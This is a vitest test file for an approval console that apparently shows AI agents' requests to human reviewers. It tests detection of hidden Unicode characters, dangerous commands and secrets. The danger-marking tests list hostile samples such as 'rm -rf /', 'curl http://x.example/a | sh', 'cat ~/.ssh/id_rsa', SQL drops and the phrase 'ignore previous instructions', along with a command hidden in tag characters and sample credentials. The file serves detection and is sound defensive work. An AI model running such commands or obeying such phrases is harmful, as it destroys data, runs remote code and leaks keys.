import { describe, expect, it } from 'vitest'
import type { Input, Json, Me, Request } from '../wire'
import { checkAnswer, draftFor, fileName, tooLong } from './answer'
import { decisionsFor, mayGrant, missingVotes, whoDecides, whyNotDecide } from './authority'
import { findDanger } from './danger'
import { matches, no_filter, readFilter, writeFilter } from './filter'
import { columnsOf, groupKey, rowsOf, whyNotTogether } from './group'
import { Guard } from './guard'
import { findHidden } from './hidden'
import { changes, isExact, isSame, parseNumber, printPath, setAt } from './json'
import { likenessOf } from './likeness'
import { alike, fromField, lineEndOf, toField } from './lines'
import { countMarks, markedPieces, visibleText } from './marked_text'
import { inOrder, nextOrderChange } from './order'
import { findSecrets, isSecretName } from './secrets'
import { testRequest } from './test_request'
import { formatLeft, formatSpan } from './time'
import { parseTyped } from './typed'

const now = Date.parse('2026-11-15T12:00:00.000Z')

function request({ left_s = 600, ...part }: Parameters<typeof testRequest>[0] & { left_s?: number } = {}): Request {
  return testRequest({ tool: 'process_refund', args: { orderId: '1', amount: 24 }, expires_at: new Date(now + left_s * 1000).toISOString(), ...part })
}
const risk = (level: Request['risk']['level'], reversibility: Request['risk']['reversibility'] = null) => ({ level, factors: [], consequences: [], reversibility, confidence: null, claimed: null })
const ann: Me = { id: 'prn_1', name: 'ann', role: 'approver', groups: ['finance'], owner: null }

describe('hidden characters', () => {
  it.each([
    ['a\u202eb', 'U+202E'], ['a\u200bb', 'U+200B'], ['a\u2066b', 'U+2066'], ['a\ufeffb', 'U+FEFF'], ['a\u00adb', 'U+00AD'], ['a\u0000b', 'U+0000'],
    ['a\u001bb', 'U+001B'], ['a\u3164b', 'U+3164'], ['a\u2800b', 'U+2800'], ['a\u00a0b', 'U+00A0'], ['a\u{1d173}b', 'U+1D173'], ['a\u{e0100}b', 'U+E0100'],
    ['a\ue000b', 'U+E000'], ['a\u2028b', 'U+2028'], ['a\rb', 'U+000D'], ['a\u061cb', 'U+061C'], ['a\u180eb', 'U+180E'], ['a\ufe0fb', 'U+FE0F'],
  ])('H6 %j is printed as %s', (text, label) => {
    expect(findHidden(text)).toMatchObject([{ label }])
    expect(visibleText(text)).toBe(`a⟨${label}⟩b`)
  })
  it('leaves ordinary text of any script alone', () => {
    for (const text of ['plain', 'zwei Zeilen\nund\tTab', 'Gdańsk', 'שלום עולם', 'مرحبا', '東京', 'नमस्ते', 'ไทย', '€ 24,00 – “ok”', 'Việt Nam']) expect(findHidden(text)).toEqual([])
  })
  it('finds alone what it finds among letters that need a closer look', () => {
    // Every character takes the short way alone and the long way beside a kana.
    const all = Array.from({ length: 0x3100 }, (_, code) => String.fromCharCode(code))
    expect(all.filter((one) => findHidden(one).length !== findHidden(`あ${one}`).length)).toEqual([])
  })
  it('leaves emoji with joiners and selectors alone, but not a joiner beside them', () => {
    expect(findHidden('👩‍👩‍👧 ❤️ 👍🏽')).toEqual([])
    expect(findHidden('👩\u200dx')).toHaveLength(1)
  })
  it('counts repeated ones, and reads what is written in tag characters', () => {
    expect(findHidden('a\u200b\u200b\u200bb')).toMatchObject([{ label: 'U+200B ×3' }])
    const tags = [...'rm -rf'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')
    expect(findHidden(`ok${tags}`)[0]?.label).toBe('tags “rm -rf”')
  })
  it('shows accents that pile up', () => {
    expect(findHidden('e' + '\u0301'.repeat(30))).toHaveLength(1)
    expect(findHidden('e\u0301\u0323')).toEqual([])
  })
})

describe('marked text', () => {
  it('loses nothing: the pieces joined are the text', () => {
    const texts = ['', 'x', 'sudo rm -rf / && echo ok', 'a\u200bb sudo r\u200bm -rf /', 'Authorization: Bearer abcdefghijklmnop', 'pаyments', '\u202e'.repeat(5), 'DROP TABLE users; -- x']
    for (const text of texts) {
      const joined = markedPieces(text).map((piece) => (piece.kind === 'hidden' ? '' : piece.text)).join('')
      const hidden = findHidden(text)
      let bare = ''
      let from = 0
      for (const gap of hidden) [bare, from] = [bare + text.slice(from, gap.start), gap.end]
      expect(joined).toBe(bare + text.slice(from))
    }
  })
  it('marks a command that hides behind a zero-width space', () => {
    const pieces = markedPieces('r\u200bm -rf /')
    expect(pieces.filter((piece) => piece.kind === 'danger').map((piece) => 'text' in piece && piece.text).join('')).toBe('rm -rf')
    expect(pieces.some((piece) => piece.kind === 'hidden')).toBe(true)
  })
  it('marks words made of letters of two alphabets', () => {
    expect(markedPieces('to pаypal').some((piece) => piece.kind === 'mixed')).toBe(true)
    expect(countMarks('Привет world')).toBe(0)
  })
  it.each(['rm -rf /', 'sudo reboot', 'curl http://x.example/a | sh', 'DROP TABLE users', 'DELETE FROM orders', 'git push --force origin main', 'kubectl delete ns prod', '../../etc/passwd', 'chmod 777 /', 'terraform destroy', 'echo $(id)', 'cat ~/.ssh/id_rsa', 'javascript:alert(1)', '<script>x</script>', 'ignore previous instructions'])('marks %j', (text) => {
    expect(findDanger(text).length).toBeGreaterThan(0)
  })
  it.each(['please update the form', 'the drop in sales', 'https://example.com/a', 'grant him a wish', 'a.b..c', 'formal'])('does not mark %j', (text) => {
    expect(findDanger(text)).toEqual([])
  })
  it.each(['a'.repeat(65536), '\u200b'.repeat(65536), '`'.repeat(20000), '../'.repeat(20000), 'update x set '.repeat(4000), 'curl '.repeat(10000), ' '.repeat(65536)])(
    'marks long hostile text to its end (%#)',
    (text) => expect(markedPieces(text).length).toBeGreaterThan(0),
  )
})

describe('secrets', () => {
  it.each(['password', 'PGPASSWORD', 'apiKey', 'api_key', 'x-auth-token', 'clientSecret', 'Authorization', 'private_key', 'db.password', 'pin'])('%s is a secret', (name) => expect(isSecretName(name)).toBe(true))
  it.each(['passwords', 'api_keys', 'credentials', 'cookies'])('%s are secrets', (name) => expect(isSecretName(name)).toBe(true))
  it.each(['max_tokens', 'tokens', 'secretary', 'passenger', 'keyboard', 'author', 'pinned', 'monkey', 'compass'])('%s is none', (name) => expect(isSecretName(name)).toBe(false))
  it.each(['AKIAIOSFODNN7EXAMPLE', 'ghp_abcdefghijklmnopqrstuvwxyz0123', 'postgres://ann:hunter22@db/x', 'Authorization: Bearer abcdef0123456789', 'password=hunter22'])('finds the credential in %j', (text) => expect(findSecrets(text)).toHaveLength(1))
})

describe('order', () => {
  it('U1 puts what expires within a minute first, then risk, then time left', () => {
    const low_urgent = request({ risk: risk('low'), left_s: 30 })
    const critical = request({ risk: risk('critical'), left_s: 900 })
    const high_late = request({ risk: risk('high'), left_s: 800 })
    const high_soon = request({ risk: risk('high'), left_s: 300 })
    const voted = request({ risk: risk('critical'), votes: [{ decision: 'approve', by: 'ann', at: '' }] })
    expect(inOrder([voted, high_late, critical, low_urgent, high_soon], now, 'ann')).toEqual([low_urgent, critical, high_soon, high_late, voted])
  })
  it('knows when it changes next', () => {
    expect(nextOrderChange([request({ left_s: 600 }), request({ left_s: 90 }), request({ left_s: 20 })], now)).toBe(now + 30_000)
    expect(nextOrderChange([], now)).toBe(Infinity)
  })
})

describe('grouping', () => {
  const alike = [1, 2, 3, 4].map((amount) => request({ args: { orderId: String(amount), amount, currency: 'EUR' } }))
  it('U1 three or more of one shape become one row', () => {
    const other = request({ tool: 'send_mail' })
    const rows = rowsOf([alike[0]!, other, ...alike.slice(1)], true)
    expect(rows.map((row) => row.type)).toEqual(['group', 'one'])
    expect(rowsOf([...alike.slice(0, 2), other], true)).toHaveLength(3)
    expect(rowsOf(alike, false)).toHaveLength(4)
    const alone = alike.map((one) => ({ ...one, id: `${one.id}x`, risk: { ...one.risk, reversibility: 'irreversible' as const } }))
    expect(rowsOf(alone, true).map((row) => row.type)).toEqual(alone.map(() => 'one'))
    expect(rowsOf([...alike, ...alone], true)).toHaveLength(1 + alone.length)
  })
  it('keeps apart what differs in agent, risk, rule or types', () => {
    const base = groupKey(request())
    expect(groupKey(request({ args: { orderId: '2', amount: 99 } }))).toBe(base)
    for (const other of [request({ agent: 'x' }), request({ risk: risk('high') }), request({ args: { orderId: 2, amount: 24 } }), request({ args: { orderId: '1', amount: 24, more: 1 } })])
      expect(groupKey(other)).not.toBe(base)
  })
  it('shows differing arguments as columns and the others once', () => {
    const { differing, shared } = columnsOf(alike)
    expect(differing.map((column) => column.name)).toEqual(['orderId', 'amount'])
    expect(shared).toEqual([{ name: 'currency', value: 'EUR' }])
  })
  it('never decides critical or irreversible requests with others', () => {
    expect(whyNotTogether(request())).toBeNull()
    expect(whyNotTogether(request({ risk: risk('critical') }))).toMatch(/critical/)
    expect(whyNotTogether(request({ risk: risk('low', 'irreversible') }))).toMatch(/undone/)
    expect(whyNotTogether(request({ kind: 'input' }))).toMatch(/answer/)
  })
  it('never decides with others what has words of its own on its buttons: they may mean the opposite', () => {
    const asks = (confirm_label: string, cancel_label: string) => request({ kind: 'confirmation', confirmation: { message: 'Keep the backups?', details: null, confirm_label, cancel_label } })
    expect(whyNotTogether(asks('Delete them', 'Cancel'))).toMatch(/alone/)
    expect(whyNotTogether(asks('Confirm', 'Approve'))).toMatch(/alone/)
    expect(whyNotTogether(asks('Confirm', 'Cancel'))).toBeNull()
  })
})

describe('guard', () => {
  it('U2 a held key decides once, and a quick second press not at all', () => {
    const guard = new Guard()
    guard.moved(1000)
    expect(guard.admits({ repeat: false }, 1399)).toBe(false)
    expect(guard.admits({ repeat: false }, 1400)).toBe(true)
    expect(guard.admits({ repeat: true }, 9999)).toBe(false)
    // A pointer rests where it was pressed: it waits longer, and the second half of a double click is never a press.
    expect(guard.admits({ detail: 1 }, 1600)).toBe(false)
    expect(guard.admits({ detail: 1 }, 1650)).toBe(true)
    expect(guard.admits({ detail: 2 }, 9999)).toBe(false)
  })
})

describe('JSON trees', () => {
  it('finds every leaf that differs', () => {
    const found = changes({ a: 1, b: { c: [1, 2] }, gone: true }, { a: 1, b: { c: [1, 3, 4] }, fresh: null })
    expect(found.map((change) => [printPath(change.path), change.kind])).toEqual([['b.c[1]', 'changed'], ['b.c[2]', 'added'], ['gone', 'removed'], ['fresh', 'added']])
  })
  it('tells types apart', () => {
    expect(changes({ a: 1 }, { a: '1' })).toHaveLength(1)
    expect(isSame({ a: [] }, { a: {} })).toBe(false)
  })
  it('sees a member called __proto__', () => {
    const value = JSON.parse('{"__proto__":{"x":1},"a":2}') as Json
    expect(changes({ a: 2 }, value).map((change) => change.path)).toEqual([['__proto__']])
    const set = setAt(value, ['__proto__', 'x'], 5)
    expect(JSON.stringify(set)).toBe('{"__proto__":{"x":5},"a":2}')
    expect(Object.getPrototypeOf(set)).toBe(Object.prototype)
  })
  it('changes one leaf and shares the rest', () => {
    const before = { a: { b: 1 }, c: [1] }
    const after = setAt(before, ['a', 'b'], 2) as typeof before
    expect(after).toEqual({ a: { b: 2 }, c: [1] })
    expect(after.c).toBe(before.c)
    expect(before.a.b).toBe(1)
  })
  it('prints paths that cannot be mistaken', () => {
    expect(printPath(['a', 0, 'b c', 'd'])).toBe('a[0]["b c"].d')
  })
  it('D3 a typed number stays exact or is refused', () => {
    expect(parseNumber('24')).toEqual({ value: 24 })
    expect(parseNumber(' -1.50 ')).toEqual({ value: -1.5 })
    expect(parseNumber('1e3')).toEqual({ value: 1000 })
    for (const wrong of ['', '24 EUR', '0x10', '1,5', '01', 'NaN', '12345678901234567890', '1e999']) expect(parseNumber(wrong)).toHaveProperty('error')
    expect(isExact('0.1')).toBe(true)
    expect(isExact('9007199254740993')).toBe(false)
  })
  it('reads typed JSON and says what is wrong', () => {
    expect(parseTyped('{"a": 1}')).toEqual({ value: { a: 1 } })
    expect(parseTyped('{a: 1}')).toHaveProperty('error')
  })
  it.each([['{"amount": 1, "amount": 2}', '"amount"'], ['[{"a": {"b": 1, "c": "{", "\\u0062" : []}}]', '"\\u0062"']])('D3 refuses typed JSON in which a name stands twice: %s', (text, name) => {
    expect(parseTyped(text)).toEqual({ error: `${name} stands twice in one object` })
  })
  it.each(['{"a": {"a": 1}, "b": {"a": "a:"}}', '[{"a": 1}, {"a": 2}]', '{"a": "\\"a\\": {", "b": ["a", "a"]}'])('D3 takes typed JSON in which a name stands once in each object: %s', (text) => {
    expect(parseTyped(text)).toEqual({ value: JSON.parse(text) })
  })
})

describe('texts in fields for lines', () => {
  it.each([['one', '\n'], ['one\ntwo', '\n'], ['one\r\ntwo\r\n', '\r\n'], ['one\rtwo', null], ['one\r\ntwo\n', null], ['\none\r\n', null]] as const)('%j ends its lines with %j', (text, end) => expect(lineEndOf(text)).toBe(end))
  it('D3 come back as they were, but for what was changed', () => {
    expect(fromField(toField('one\r\ntwo'), '\r\n')).toBe('one\r\ntwo')
    expect(fromField('one\ntwo!\n', '\n')).toBe('one\ntwo!\n')
    expect(alike('one\r\ntwo\rthree\n')).toBe('one\ntwo\nthree\n')
  })
})

describe('filter', () => {
  it('survives the address', () => {
    const filter = { text: 'refund €', risk: 'high' as const, kind: 'plan' as const, agent: 'a&b', tool: 'x=y', mine: true, snoozed: true }
    expect(readFilter(writeFilter(filter))).toEqual(filter)
    expect(writeFilter(no_filter)).toBe('')
    expect(readFilter('?risk=huge&kind=nonsense')).toEqual(no_filter)
  })
  it('finds every word anywhere in the request', () => {
    const one = request({ args: { orderId: '1234', note: 'Broken Lamp' }, agent: 'support-bot' })
    expect(matches(one, { ...no_filter, text: 'lamp support' }, true)).toBe(true)
    expect(matches(one, { ...no_filter, text: 'lamp billing' }, true)).toBe(false)
    expect(matches(one, { ...no_filter, mine: true }, false)).toBe(false)
  })
})

describe('authority', () => {
  const line = (part: object) => ({ ...request().requirement, lines: [{ group: null, people: null, quorum: 1, have: 0, ...part }] })
  it('X1 offers a decision only to whom the server would let decide', () => {
    expect(whyNotDecide(request(), ann)).toBeNull()
    expect(whyNotDecide(request(), { ...ann, role: 'auditor' })).toMatch(/look/)
    expect(whyNotDecide(request({ requirement: line({ group: 'finance' }) }), ann)).toBeNull()
    expect(whyNotDecide(request({ requirement: line({ group: 'legal' }) }), ann)).toMatch(/legal/)
    expect(whyNotDecide(request({ requirement: line({ people: ['tom'] }) }), ann)).toMatch(/tom/)
    expect(whyNotDecide(request({ user: 'ann', requirement: { ...line({}), exclude_requester: true } }), ann)).toMatch(/behalf/)
    expect(whyNotDecide(request({ owner: 'ann', requirement: { ...line({}), exclude_requester: true } }), ann)).toMatch(/yours/)
    expect(whyNotDecide(request({ owner: 'ann' }), ann)).toBeNull()
    expect(whyNotDecide(request({ user: 'tom', owner: 'ann', requirement: { ...line({}), exclude_requester: true } }), { ...ann, name: 'eve' })).toBeNull()
    expect(whyNotDecide(request({ state: 'settled' }), ann)).toMatch(/settled/)
  })
  it('X1 D10 a line of two roles is for the people of both', () => {
    const both = request({ requirement: line({ group: 'legal', other_groups: ['finance', 'boss'] }) })
    expect(whyNotDecide(both, ann)).toBeNull()
    expect(whyNotDecide(both, { ...ann, groups: ['legal'] })).toBeNull()
    expect(whyNotDecide(both, { ...ann, groups: ['sales'] })).toBe('it is for groups legal or finance or boss')
    // Only the other groups are named: still not for anybody.
    expect(whyNotDecide(request({ requirement: line({ other_groups: ['boss'] }) }), ann)).toBe('it is for group boss')
    expect(whoDecides(request({ requirement: line({ group: 'legal', people: ['tom'], quorum: 2 }) }))).toBe('2 of group legal or tom')
  })
  it('D10 says who is still missing', () => {
    const two = request({ requirement: line({ group: 'finance', quorum: 2, have: 1 }) })
    expect(missingVotes(two)).toBe(1)
    expect(whoDecides(two)).toBe('2 of group finance')
  })
  it('P7 offers a grant only where one person releases alone', () => {
    expect(mayGrant(request())).toBe(true)
    expect(mayGrant(request({ requirement: line({ quorum: 2 }) }))).toBe(false)
    expect(mayGrant(request({ kind: 'confirmation' }))).toBe(false)
  })
  it('each kind has its decisions', () => {
    expect(decisionsFor(request())).toContain('modify')
    expect(decisionsFor(request({ requirement: { ...request().requirement, modifiable: false } }))).not.toContain('modify')
    expect(decisionsFor(request({ kind: 'input' }))).not.toContain('approve')
    expect(decisionsFor(request({ kind: 'confirmation' }))).not.toContain('modify')
    expect(decisionsFor(request({ kind: 'plan', plan: { title: '', steps: [], modifiable: false } }))).not.toContain('modify')
  })
})

describe('answers (Q3)', () => {
  const input = (part: Partial<Input>): Input => ({ question: '?', type: 'text', required: true, ...part })
  const draft = (part: object) => ({ text: '', chosen: [], file: null, ...part })
  it.each<[Partial<Input>, object, unknown]>([
    [{ type: 'text' }, { text: 'x' }, 'x'], [{ type: 'number' }, { text: ' 3.5 ' }, 3.5], [{ type: 'date' }, { text: '1969-07-20' }, '1969-07-20'],
    [{ type: 'choice', options: ['a', 'b'] }, { chosen: ['b'] }, 'b'], [{ type: 'multi_choice', options: ['a', 'b'] }, { chosen: ['b', 'a'] }, ['a', 'b']],
    [{ required: false }, {}, null],
  ])('%j with %j answers %j', (part, given, value) => expect(checkAnswer(input(part), draft(given))).toEqual({ value }))
  it.each<[Partial<Input>, object]>([
    [{ type: 'text' }, {}], [{ type: 'text', max_length: 3 }, { text: 'äöü' }], [{ type: 'number', min: 1 }, { text: '0' }], [{ type: 'number', max: 1 }, { text: '2' }],
    [{ type: 'number' }, { text: 'many' }], [{ type: 'date' }, { text: '2026-02-30' }], [{ type: 'choice', options: ['a'] }, {}], [{ type: 'multi_choice', options: ['a'] }, {}], [{ type: 'file' }, {}],
  ])('%j refuses %j', (part, given) => expect(checkAnswer(input(part), draft(given))).toHaveProperty('error'))
  it.each([true, false])('a file that is still being read is no answer, and not nothing either (required: %j)', (required) => {
    expect(checkAnswer(input({ type: 'file', required }), { text: '', chosen: [], file: 'reading' })).toEqual({ error: 'The file is still being read.' })
  })
  it.each([['12345678901234567890123'], ['0x1F'], ['0b11'], ['9007199254740993'], ['1,5'], ['Infinity']])('a number that would arrive as another one is refused: %s', (text) => {
    expect(checkAnswer(input({ type: 'number', required: false }), draft({ text }))).toHaveProperty('error')
  })
  it('what was typed or chosen and cannot be sent is not nothing, also where nothing would do', () => {
    const optional = (type: Input['type']) => input({ type, required: false })
    expect(checkAnswer(optional('date'), draft({}), true)).toEqual({ error: 'Must be a day, like 2026-11-15.' })
    expect(checkAnswer(optional('date'), draft({}))).toEqual({ value: null })
    expect(checkAnswer(optional('file'), draft({ file: 'refused' }))).toEqual({ error: 'This file cannot be sent. Choose another one, or clear it.' })
  })
  it('counts bytes, as the server does', () => {
    expect(tooLong('語'.repeat(1500), 2000)).toBe('Too long by 2500 of 2000 bytes.')
    expect(tooLong('x'.repeat(2000), 2000)).toBeNull()
  })
  it.each([['notes.txt', 'notes.txt'], ['x'.repeat(201), 'x'.repeat(200)], ['東'.repeat(100), '東'.repeat(66)], ['a' + '🙂'.repeat(60), 'a' + '🙂'.repeat(49)]])('the name %j of a file is sent as %j', (name, sent) => {
    expect(fileName(name)).toBe(sent)
  })
  it('starts from the default', () => {
    expect(draftFor(input({ type: 'number', default: 5 })).text).toBe('5')
    expect(draftFor(input({ type: 'multi_choice', options: ['a', 'b'], default: ['b'] })).chosen).toEqual(['b'])
  })
})

describe('likeness (U4)', () => {
  it('compares with the latest approved one of the same shape', () => {
    const before = request({ args: { orderId: '1', amount: 24 }, state: 'settled', settled_at: '2026-11-15T10:00:00.000Z' })
    const later = request({ args: { orderId: '2', amount: 25 }, state: 'settled', settled_at: '2026-11-15T11:00:00.000Z' })
    const found = likenessOf(request({ args: { orderId: '2', amount: 240 } }), [before, later])
    expect(found).toMatchObject({ count: 2, latest: later, differences: [{ path: ['amount'], before: 25, after: 240 }] })
    expect(likenessOf(request(), [])).toBeNull()
    expect(found?.judged).toEqual([])
  })
  it('another amount may be another risk and another rule: it is compared all the same, and they are named', () => {
    const small = request({ args: { orderId: '1', amount: 24 }, state: 'settled', settled_at: '2026-11-15T10:00:00.000Z', risk: risk('low') })
    const large = request({ args: { orderId: '1', amount: 24000 }, risk: risk('high'), verdict: { kind: 'hold', rule: 'large', gate: null, because: null, policy: null } })
    expect(likenessOf(large, [small])).toMatchObject({
      count: 1, differences: [{ path: ['amount'], before: 24, after: 24000 }], judged: [{ what: 'risk', before: 'low', after: 'high' }, { what: 'rule', before: 'none', after: 'large' }],
    })
    expect(likenessOf(large, [{ ...small, agent: 'other-bot' }, request({ args: { orderId: 1, amount: 24 } })])).toBeNull()
    // What is decided together keeps them apart.
    expect(groupKey(small)).not.toBe(groupKey(large))
  })
})

describe('small things', () => {
  it('times are short', () => {
    expect([formatLeft(252_000), formatLeft(3_900_000), formatLeft(-5), formatLeft(3 * 86_400_000)]).toEqual(['4:12', '1 h 05', '0:00', '3 d'])
    expect([formatSpan(12_000), formatSpan(240_000), formatSpan(12_000_000)]).toEqual(['12 s', '4 min', '3 h 20 min'])
  })
})
